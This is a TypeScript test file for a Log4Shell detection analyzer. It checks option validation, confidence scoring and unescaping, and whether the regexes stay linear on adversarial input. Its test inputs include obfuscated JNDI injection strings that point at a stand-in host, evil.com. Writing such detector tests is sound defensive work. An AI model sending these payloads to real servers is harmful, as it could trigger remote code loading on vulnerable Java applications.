// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${...}` here is attack text, not a forgotten template literal.
import { describe, expect, it } from 'vitest';
import { inspected, itRunsCaseTable } from '../shared/case-table.testing.js';
import { itStaysLinear } from '../shared/linearity.testing.js';
import { log4shellCases } from './cases.js';
import { createLog4shellAnalyzer } from './create-log4shell-analyzer.js';

const analyzer = createLog4shellAnalyzer();

describe('log4shell analyzer', () => {
  itRunsCaseTable(analyzer, log4shellCases);

  it('refuses unknown and out-of-range options', () => {
    expect(() => createLog4shellAnalyzer({ depth: 3 })).toThrow(/unknown option/);
    expect(() => createLog4shellAnalyzer({ maxLength: 10 })).toThrow(/maxLength/);
    expect(createLog4shellAnalyzer({ maxLength: 100 }).id).toBe('log4shell');
  });

  it('scores a remote JNDI lookup as unmistakable', () => {
    const [f] = analyzer.analyzeValue!(inspected('${${::-j}ndi:ldap://evil.com/a}'));
    expect(f?.confidence).toBe(1);
    expect(f?.evidence).toBe('${jndi:ldap://evil.com/a}');
  });

  it('names its own unescaping among the transforms', () => {
    const [f] = analyzer.analyzeValue!(inspected('$&lbrace;jndi:ldap://evil.com/a}'));
    expect(f?.transforms).toEqual(['log4shell-unescape']);
  });
});

describe('log4shell regexes and scanners are linear', () => {
  const adversarial = [
    `${'a'.repeat(50_000)}!`,
    '${'.repeat(25_000),
    `${'${x:-'.repeat(10_000)}}`,
    '%25'.repeat(20_000),
    '&#'.repeat(25_000),
    '&#0'.repeat(20_000),
    '\\u0'.repeat(20_000),
    '}'.repeat(50_000),
    ':-'.repeat(25_000),
  ];
  const unbounded = createLog4shellAnalyzer({ maxLength: 1 << 20 });
  itStaysLinear(
    new URL('.', import.meta.url),
    adversarial,
    (input) => {
      for (const kind of ['query-value', 'body-text'] as const) {
        analyzer.analyzeValue!(inspected(input, kind));
        unbounded.analyzeValue!(inspected(input, kind));
      }
    },
    1,
  );
});
